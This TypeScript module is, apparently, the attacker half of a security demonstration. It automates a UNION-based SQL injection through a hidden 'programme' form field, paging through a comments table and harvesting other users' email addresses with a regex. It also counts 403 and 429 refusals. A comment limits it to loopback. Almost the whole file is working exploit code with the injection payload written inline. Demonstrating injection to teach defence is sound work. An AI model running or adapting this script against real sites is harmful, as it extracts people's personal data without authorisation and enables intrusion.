// The attacker that comes with the demonstration, so that it needs nothing else: a UNION through the hidden field, page
// by page, as fast as the site answers. Loopback only.

export interface Loot {
    /** Distinct addresses that reached the attacker. */
    readonly emails: ReadonlySet<string>
    readonly rows: number
    readonly requests: number
    /** Answers that were refused (403, 429) or cut off. */
    readonly refused: number
    readonly seconds: number
}

export interface AttackOptions {
    readonly url: string
    readonly limitSeconds: number
    /** Ends the attack after this many refusals in a row: a real one goes elsewhere. */
    readonly giveUpAfter: number
    readonly onProgress?: (loot: { readonly rows: number; readonly requests: number }) => void
}

const PAGE_ROWS = 50
const ROW = /<td>([^<]*)<\/td><td>([^<@]+@[^<]+)<\/td>/g

export async function attack(options: AttackOptions): Promise<Loot> {
    const emails = new Set<string>()
    const count = { rows: 0, requests: 0, refused: 0, inARow: 0 }
    const started = performance.now()
    const seconds = (): number => (performance.now() - started) / 1_000
    while (seconds() < options.limitSeconds && count.inARow < options.giveUpAfter) {
        const page = await fetchPage(options.url, count.requests * PAGE_ROWS)
        count.requests++
        const rows = [...page.text.matchAll(ROW)]
        for (const [, , email] of rows) emails.add((email ?? "").toLowerCase())
        count.rows += rows.length
        count.inARow = page.refused ? count.inARow + 1 : 0
        if (page.refused) count.refused++
        else if (rows.length === 0) break
        options.onProgress?.(count)
    }
    return { emails, rows: count.rows, requests: count.requests, refused: count.refused, seconds: seconds() }
}

async function fetchPage(url: string, offset: number): Promise<{ readonly text: string; readonly refused: boolean }> {
    const select = `SELECT posted_at,nickname,email,body FROM comments LIMIT ${PAGE_ROWS} OFFSET ${offset}`
    const form = {
        programme: `x' UNION ALL ${select}-- -`,
        nickname: "q",
        email: "attacker@station.invalid",
        comment: "hello",
    }
    const chunks: Buffer[] = []
    try {
        const response = await fetch(`${url}/comment`, { method: "POST", body: new URLSearchParams(form) })
        if (response.body !== null) for await (const chunk of response.body) chunks.push(Buffer.from(chunk))
        return { text: Buffer.concat(chunks).toString(), refused: response.status === 403 || response.status === 429 }
    } catch {
        // Cut off: what came through before counts.
        return { text: Buffer.concat(chunks).toString(), refused: true }
    }
}
